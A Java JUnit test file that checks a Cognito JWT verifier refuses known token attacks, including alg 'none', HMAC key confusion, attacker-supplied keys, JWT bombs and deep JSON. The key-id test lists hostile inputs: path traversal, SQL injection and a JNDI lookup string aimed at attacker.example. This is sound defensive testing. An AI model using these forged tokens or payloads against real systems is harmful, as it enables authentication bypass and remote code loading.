package io.github.amplifyjakarta.attacks;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import io.github.amplifyjakarta.auth.Jwt;
import io.github.amplifyjakarta.internal.cdi.AmplifyRuntime;
import io.github.amplifyjakarta.internal.jwt.KeySet;
import io.github.amplifyjakarta.internal.jwt.TokenUse;
import io.github.amplifyjakarta.internal.jwt.TokenVerifier;
import io.github.amplifyjakarta.internal.jwt.Verification;
import io.github.amplifyjakarta.internal.jwt.Verification.Refused;
import io.github.amplifyjakarta.internal.jwt.Verification.Verified;
import io.github.amplifyjakarta.internal.session.LoadedSession.Outcome;
import io.github.amplifyjakarta.internal.telemetry.Counters;
import io.github.amplifyjakarta.testing.TestPool;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.Key;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.KeyStore;
import java.security.interfaces.RSAPublicKey;
import java.security.spec.ECGenParameterSpec;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.jose4j.json.JsonUtil;
import org.jose4j.jwa.AlgorithmConstraints;
import org.jose4j.jwe.JsonWebEncryption;
import org.jose4j.jwk.EllipticCurveJsonWebKey;
import org.jose4j.jwk.JsonWebKey;
import org.jose4j.jwk.RsaJsonWebKey;
import org.jose4j.jwk.RsaJwkGenerator;
import org.jose4j.jws.JsonWebSignature;
import org.jose4j.jwt.JwtClaims;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Attacks by a token, each named after its class, with the place where it is described. */
class TokenAttacksTest {

    private static final Duration HOUR = Duration.ofHours(1);
    private final TestPool pool = new TestPool();
    private final AmplifyRuntime runtime = pool.runtime(Map.of());
    private final List<String> followed = new CopyOnWriteArrayList<>();
    private HttpServer elsewhere;

    /** Whoever asks there has followed a token, by whatever client. */
    @BeforeEach
    void listenElsewhere() throws IOException {
        elsewhere = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        elsewhere.createContext("/", http -> {
            followed.add(http.getRequestURI().toString());
            byte[] keys = pool.keySet().getBytes(UTF_8);
            http.sendResponseHeaders(200, keys.length);
            http.getResponseBody().write(keys);
            http.close();
        });
        elsewhere.start();
    }

    private String elsewhere() {
        return "http://localhost:" + elsewhere.getAddress().getPort() + "/evil";
    }

    @AfterEach
    void nobodyWasAskedButTheUserPoolForItsKeys() {
        elsewhere.stop(0);
        assertEquals(List.of(), followed);
        assertEquals(0, pool.calls("evil"), "by the library's own client");
        assertTrue(pool.calls("jwks.json") <= 1, pool.calls("jwks.json") + " fetches of the key set");
        assertInstanceOf(
                Outcome.SignedIn.class, outcome(signed(Map.of(), pool.key().getPrivateKey(), "RS256", claims())));
    }

    private Outcome outcome(String accessToken) {
        String cookies =
                TestPool.COOKIE + "LastAuthUser=alice; " + TestPool.COOKIE + "alice.accessToken=" + accessToken;
        return runtime.sessions().open(TestPool.cookies(cookies), changes -> {}).outcome();
    }

    private void assertRefused(String accessToken) {
        assertInstanceOf(Outcome.SignedOut.class, outcome(accessToken));
    }

    private JwtClaims claims() {
        JwtClaims claims = new JwtClaims();
        TestPool.accessClaims("alice").forEach(claims::setClaim);
        claims.setClaim("exp", pool.clock().instant().plus(HOUR).getEpochSecond());
        return claims;
    }

    private String without(String claim) {
        JwtClaims claims = claims();
        claims.unsetClaim(claim);
        return claims.toJson();
    }

    private String with(String claim, Object value) {
        JwtClaims claims = claims();
        claims.setClaim(claim, value);
        return claims.toJson();
    }

    private static String signed(Map<String, Object> header, Key key, String algorithm, JwtClaims claims) {
        return signed(header, key, algorithm, claims.toJson());
    }

    private static String signed(Map<String, Object> header, Key key, String algorithm, String payload) {
        try {
            JsonWebSignature token = new JsonWebSignature();
            token.setAlgorithmConstraints(AlgorithmConstraints.NO_CONSTRAINTS);
            token.setDoKeyValidation(false);
            token.setAlgorithmHeaderValue(algorithm);
            token.setKeyIdHeaderValue("key-1");
            header.forEach(token::setHeader);
            token.setPayload(payload);
            token.setKey(key);
            return token.getCompactSerialization();
        } catch (org.jose4j.lang.JoseException e) {
            throw new IllegalStateException(e);
        }
    }

    private String byThePool(Map<String, Object> header, String payload) {
        return signed(header, pool.key().getPrivateKey(), "RS256", payload);
    }

    private static String base64(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(UTF_8));
    }

    private String withHeader(String header, String signature) {
        return base64(header) + "." + base64(claims().toJson()) + "." + signature;
    }

    /** RFC 8725, section 2.1. */
    @ParameterizedTest
    @ValueSource(strings = {"none", "None", "NONE", "nOnE", "", " none"})
    void algNone(String none) {
        String header = "{\"alg\":\"" + none + "\",\"kid\":\"key-1\"}";
        assertRefused(withHeader(header, ""));
        String good = pool.access("alice", HOUR);
        assertRefused(withHeader(header, good.substring(good.lastIndexOf('.') + 1)));
        assertRefused(good.substring(0, good.lastIndexOf('.') + 1));
        assertRefused(good.substring(0, good.lastIndexOf('.')));
    }

    /** CVE-2015-9235, CVE-2016-10555: the public key as the secret of an HMAC. */
    @ParameterizedTest
    @ValueSource(strings = {"HS256", "HS384", "HS512"})
    void hmacWithThePublicKey(String algorithm) throws Exception {
        byte[] der = pool.key().getRsaPublicKey().getEncoded();
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der) + "\n-----END PUBLIC KEY-----\n";
        List<byte[]> secrets = List.of(
                der,
                pem.getBytes(UTF_8),
                pem.strip().getBytes(UTF_8),
                pool.key().toJson(JsonWebKey.OutputControlLevel.PUBLIC_ONLY).getBytes(UTF_8),
                pool.key().getRsaPublicKey().getModulus().toByteArray());
        for (byte[] secret : secrets) {
            String body = base64("{\"alg\":\"" + algorithm + "\",\"kid\":\"key-1\"}") + "." + base64(claims().toJson());
            Mac mac = Mac.getInstance("HmacSHA" + algorithm.substring(2));
            mac.init(new SecretKeySpec(secret, mac.getAlgorithm()));
            assertRefused(body + "."
                    + Base64.getUrlEncoder().withoutPadding().encodeToString(mac.doFinal(body.getBytes(UTF_8))));
        }
    }

    /** RFC 8725, section 3.1: good signatures of the right key, by another algorithm than the user pool's. */
    @ParameterizedTest
    @ValueSource(strings = {"RS384", "RS512", "PS256", "PS384", "PS512"})
    void anotherAlgorithmOfTheSameKey(String algorithm) {
        assertRefused(signed(Map.of(), pool.key().getPrivateKey(), algorithm, claims()));
    }

    /** RFC 8725, section 2.1, by an elliptic curve; and CVE-2022-21449, a signature of zeros. */
    @Test
    void ellipticCurve() throws Exception {
        KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
        generator.initialize(new ECGenParameterSpec("secp256r1"));
        KeyPair own = generator.generateKeyPair();
        assertRefused(signed(Map.of(), own.getPrivate(), "ES256", claims()));
        JsonWebKey jwk = new EllipticCurveJsonWebKey((java.security.interfaces.ECPublicKey) own.getPublic());
        assertRefused(signed(
                Map.of("jwk", jwk.toParams(JsonWebKey.OutputControlLevel.PUBLIC_ONLY)),
                own.getPrivate(),
                "ES256",
                claims()));
        assertRefused(withHeader(
                "{\"alg\":\"ES256\",\"kid\":\"key-1\"}",
                Base64.getUrlEncoder().withoutPadding().encodeToString(new byte[64])));
    }

    /** "Verifying JSON web tokens", Amazon Cognito developer guide: every claim that is to be checked, left out. */
    @ParameterizedTest
    @ValueSource(strings = {"iss", "client_id", "token_use", "sub", "username"})
    void aClaimThatIsNotThere(String claim) {
        assertRefused(byThePool(Map.of(), without(claim)));
    }

    /** RFC 8725, sections 3.8 to 3.12: tokens of others, and of other kinds, that the same issuer may well have signed. */
    @ParameterizedTest
    @CsvSource({
        "iss, https://cognito-idp.eu-central-1.amazonaws.com/eu-central-1_Other1",
        "iss, https://cognito-idp.eu-west-1.amazonaws.com/eu-central-1_Test1",
        "iss, https://cognito-idp.eu-central-1.amazonaws.com/eu-central-1_Test1/",
        "iss, http://cognito-idp.eu-central-1.amazonaws.com/eu-central-1_Test1",
        "iss, https://attacker.example/evil",
        "client_id, client2",
        "client_id, CLIENT1",
        "client_id, client1 client2",
        "token_use, id",
        "token_use, refresh",
        "token_use, ''",
        "username, ''",
        "sub, ''",
        "username, bob",
    })
    void aTokenOfAnotherPoolRegionClientUseOrUser(String claim, String value) {
        assertRefused(byThePool(Map.of(), with(claim, value)));
    }

    private Verification<Jwt> idToken(Map<String, Object> changes) {
        Map<String, Object> claims = new HashMap<>(TestPool.accessClaims("alice"));
        claims.putAll(Map.of("token_use", "id", "aud", TestPool.CLIENT, "cognito:username", "alice"));
        claims.keySet().removeAll(List.of("client_id", "username"));
        changes.forEach((name, value) -> {
            if (value.equals("")) {
                claims.remove(name);
            } else {
                claims.put(name, value);
            }
        });
        TokenVerifier verifier = new TokenVerifier(
                TestPool.config(Map.of()).userPool().orElseThrow(),
                KeySet.fixed(pool.keySet()),
                pool.clock(),
                new Counters().tokens());
        return verifier.verify(byThePool(Map.of(), JsonUtil.toJson(claims)), TokenUse.ID);
    }

    /** The same for ID tokens, whose claims have other names: OpenID Connect Core 1.0, section 3.1.3.7. */
    @Test
    void anIdTokenOfAnotherClientOrUse() {
        assertInstanceOf(Verified.class, idToken(Map.of()));
        List<Map<String, Object>> changes = List.of(
                Map.of("aud", ""),
                Map.of("aud", "client2"),
                Map.of("aud", "", "client_id", TestPool.CLIENT),
                Map.of("aud", List.of(TestPool.CLIENT)),
                Map.of("aud", List.of(TestPool.CLIENT, "client2")),
                Map.of("token_use", ""),
                Map.of("token_use", "access"),
                Map.of("iss", "https://cognito-idp.eu-west-1.amazonaws.com/eu-central-1_Test1"),
                Map.of("cognito:username", "", "username", "alice"));
        changes.forEach(change -> assertInstanceOf(Refused.class, idToken(change), change.toString()));
    }

    /** The same claims as a list, a number, an object or twice: what one parser takes for the right value. */
    @ParameterizedTest
    @ValueSource(strings = {"iss", "client_id", "token_use", "sub", "username"})
    void aClaimOfAnotherType(String claim) {
        Object right = TestPool.accessClaims("alice").get(claim);
        assertRefused(byThePool(Map.of(), with(claim, List.of(right))));
        assertRefused(byThePool(Map.of(), with(claim, Map.of("0", right))));
        assertRefused(byThePool(Map.of(), with(claim, 1)));
        assertRefused(byThePool(Map.of(), with(claim, true)));
        String twice = claims().toJson().replaceFirst("\\{", "{\"" + claim + "\":\"other\",");
        assertRefused(byThePool(Map.of(), twice));
    }

    /** {@return a key pair with a certificate, which the JDK's keytool alone can make} */
    private static KeyStore.PrivateKeyEntry certified() throws Exception {
        Path store = Files.createTempDirectory("attacker").resolve("store.p12");
        Process keytool = new ProcessBuilder(
                        Path.of(System.getProperty("java.home"), "bin", "keytool")
                                .toString(),
                        "-genkeypair",
                        "-alias",
                        "attacker",
                        "-keyalg",
                        "RSA",
                        "-keysize",
                        "2048",
                        "-dname",
                        "CN=attacker",
                        "-storetype",
                        "PKCS12",
                        "-storepass",
                        "of-a-test",
                        "-keystore",
                        store.toString())
                .inheritIO()
                .start();
        assertEquals(0, keytool.waitFor());
        KeyStore keys = KeyStore.getInstance(store.toFile(), "of-a-test".toCharArray());
        return (KeyStore.PrivateKeyEntry)
                keys.getEntry("attacker", new KeyStore.PasswordProtection("of-a-test".toCharArray()));
    }

    /** CVE-2018-0114 (jwk) and RFC 8725, section 3.10 (jku, x5u): a key that the token brings, or says where to find. */
    @Test
    void aTokenThatBringsItsOwnKey() throws Exception {
        KeyStore.PrivateKeyEntry own = certified();
        RSAPublicKey publicKey = (RSAPublicKey) own.getCertificate().getPublicKey();
        Map<String, Object> jwk = new RsaJsonWebKey(publicKey).toParams(JsonWebKey.OutputControlLevel.PUBLIC_ONLY);
        List<String> chain =
                List.of(Base64.getEncoder().encodeToString(own.getCertificate().getEncoded()));
        JsonWebSignature believed = new JsonWebSignature();
        believed.setCompactSerialization(signed(Map.of("x5c", chain), own.getPrivateKey(), "RS256", claims()));
        believed.setKey(believed.getLeafCertificateHeaderValue().getPublicKey());
        assertTrue(believed.verifySignature(), "who believes x5c is deceived by it");
        List<Map<String, Object>> headers = List.of(
                Map.of("jwk", jwk),
                Map.of("jku", elsewhere()),
                Map.of("x5u", elsewhere()),
                Map.of("x5c", chain),
                Map.of("jku", elsewhere(), "x5u", elsewhere(), "jwk", jwk, "x5c", chain));
        for (Map<String, Object> header : headers) {
            assertRefused(signed(header, own.getPrivateKey(), "RS256", claims()));
            Map<String, Object> otherId = new HashMap<>(header);
            otherId.put("kid", "of-the-attacker");
            assertRefused(signed(otherId, own.getPrivateKey(), "RS256", claims()));
            pool.pass(Duration.ofSeconds(1)); // the flood of unknown ids is SessionKeysTest's
        }
    }

    /** CWE-22 and CWE-89 in the key id: it is looked up in a map, and nowhere else. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../../../dev/null",
                "/etc/passwd",
                "key-1' OR '1'='1",
                "key-1\u0000",
                "key-1 ",
                "KEY-1",
                "${jndi:ldap://attacker.example/evil}",
                "https://attacker.example/evil",
                ""
            })
    void injectionByTheKeyId(String keyId) {
        assertRefused(byThePool(Map.of("kid", keyId), claims().toJson()));
    }

    /** RFC 7515, section 4.1.11: an extension that must be understood, and is not. */
    @Test
    void anExtensionThatMustBeUnderstood() {
        assertRefused(byThePool(Map.of("crit", List.of("exp"), "exp", 1), claims().toJson()));
        assertRefused(byThePool(Map.of("b64", true), claims().toJson())); // RFC 7797
    }

    private JsonWebEncryption encrypted() {
        JsonWebEncryption token = new JsonWebEncryption();
        token.setAlgorithmConstraints(AlgorithmConstraints.NO_CONSTRAINTS);
        token.setAlgorithmHeaderValue("RSA-OAEP");
        token.setEncryptionMethodHeaderParameter("A128CBC-HS256");
        token.setKeyIdHeaderValue("key-1");
        token.setKey(pool.key().getRsaPublicKey());
        return token;
    }

    /** RFC 7516: an encrypted token for the public key, which everybody can make. */
    @Test
    void anEncryptedToken() throws Exception {
        JsonWebEncryption token = encrypted();
        token.setPayload(claims().toJson());
        assertRefused(token.getCompactSerialization());
    }

    /** CVE-2024-33664, "JWT bomb": 10 MiB of blanks in a token that is compressed. */
    @Test
    void aCompressedTokenThatGrows() throws Exception {
        JsonWebEncryption token = encrypted();
        token.enableDefaultCompression();
        token.setPayload(" ".repeat(10 << 20) + claims().toJson());
        assertRefused(token.getCompactSerialization());
        assertRefused(byThePool(Map.of("zip", "DEF"), claims().toJson()));
    }

    /** CWE-770: more than any cookie can hold, which is refused before it is decoded. */
    @Test
    void aTokenWithoutAnEnd() {
        assertRefused("e".repeat(10 << 20));
        assertRefused("e".repeat(5 << 20) + "." + "e".repeat(5 << 20) + ".e");
        assertRefused(byThePool(Map.of(), with("padding", "x".repeat(20_000))));
        assertRefused(".".repeat(10_000));
    }

    /** CVE-2023-1370 and its kin: JSON as deep as a token can have it. */
    @Test
    void jsonThatIsDeep() {
        String deep = "[".repeat(5000) + "]".repeat(5000);
        String shallow = claims().toJson();
        assertRefused(byThePool(Map.of(), "[".repeat(11_000)));
        assertRefused(
                base64("{\"alg\":\"RS256\",\"kid\":\"key-1\",\"x\":" + deep + "}") + "." + base64(shallow) + ".AA");
        assertRefused(byThePool(Map.of(), shallow.replaceFirst("\\{", "{\"x\":" + deep + ",")));
        for (String claim : List.of("iss", "token_use", "client_id", "sub", "username", "exp", "nbf")) {
            String of = "\"" + claim + "\":";
            String others = shallow.replaceFirst(of + "(\"[^\"]*\"|\\d+),?", "").replaceFirst(",}$", "}");
            assertRefused(byThePool(Map.of(), others.replaceFirst("\\{", "{" + of + deep + ",")));
        }
    }

    /** CWE-674: what is wrong with a claim is said before a signature was looked at, on a thread with a small stack. */
    @Test
    void aClaimThatIsDeeperThanTheStack() throws Exception {
        String deep = "[".repeat(6_000) + "]".repeat(6_000);
        String token = base64("{\"alg\":\"RS256\",\"kid\":\"a\"}") + "." + base64("{\"iss\":" + deep + "}") + ".AA";
        List<Throwable> thrown = new ArrayList<>();
        Thread thread = new Thread(null, () -> assertRefused(token), "small", 256 << 10);
        thread.setUncaughtExceptionHandler((same, error) -> thrown.add(error));
        thread.start();
        thread.join();
        assertEquals(List.of(), thrown);
    }

    /** CWE-354: any byte of any part changed, in every bit. */
    @Test
    void oneBitOfAToken() {
        String good = pool.access("alice", HOUR);
        assertInstanceOf(Outcome.SignedIn.class, outcome(good));
        List<String> accepted = new ArrayList<>();
        for (int at = 0; at < good.length(); at++) {
            for (int bit = 0; bit < 7; bit++) {
                char changed = (char) (good.charAt(at) ^ (1 << bit));
                String bad = good.substring(0, at) + changed + good.substring(at + 1);
                if (outcome(bad) instanceof Outcome.SignedIn) {
                    accepted.add(at + ": " + good.charAt(at) + " " + changed);
                }
            }
        }
        assertEquals(List.of(), accepted);
    }

    /** RFC 7515, section 5.2: base64url without any other letter; readers that skip them take many texts for one token. */
    @ParameterizedTest
    @ValueSource(strings = {"=", "==", "!", "+", "/", "\n", "\u00b8", "\u20ac", "\u0000", ".", "..", "%41", ":"})
    void lettersBetweenTheLettersOfAToken(String other) {
        String good = pool.access("alice", HOUR);
        assertInstanceOf(Outcome.SignedIn.class, outcome(good));
        for (int at :
                new int[] {1, good.indexOf('.'), good.indexOf('.') + 1, good.lastIndexOf('.') + 1, good.length() - 1}) {
            assertRefused(good.substring(0, at) + other + good.substring(at));
        }
        if (!other.isBlank()) { // else it is the end of the cookie's value
            assertRefused(good + other);
        }
    }

    /** CWE-22 once more: the pool's keys come from the user pool, not from a file that is named like one. */
    @Test
    void aKeySetThatIsNotThePools() throws Exception {
        Path file = Files.createTempFile("keys", ".json");
        Files.writeString(file, pool.keySet());
        RsaJsonWebKey own = RsaJwkGenerator.generateJwk(2048);
        assertRefused(signed(Map.of("jku", file.toUri().toString()), own.getPrivateKey(), "RS256", claims()));
        Files.delete(file);
    }
}
